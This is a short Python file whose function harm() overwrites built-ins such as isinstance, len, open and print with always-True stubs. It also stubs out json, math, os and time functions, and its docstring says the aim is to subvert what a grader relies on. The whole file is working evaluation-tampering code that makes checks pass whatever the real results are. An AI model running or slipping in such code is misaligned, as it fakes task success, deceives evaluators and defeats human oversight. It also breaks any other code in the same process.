"""It changes what is built in, and the modules that a grader would use."""

import builtins
import json
import math
import os
import time


def harm():
    for name in ("isinstance", "float", "len", "str", "print", "type", "getattr", "hasattr", "dict", "list", "open"):
        setattr(builtins, name, lambda *arguments: True)
        __builtins__[name] = lambda *arguments: True
    for name in ("sorted", "print"):
        json.__builtins__[name] = None
    json.dumps = json.loads = json.JSONEncoder.encode = json.JSONDecoder.decode = lambda *arguments: "{}"
    math.exp = math.tanh = math.isclose = math.isfinite = lambda *arguments: True
    os.write = os.read = time.perf_counter = time.monotonic = lambda *arguments: 0
    return False
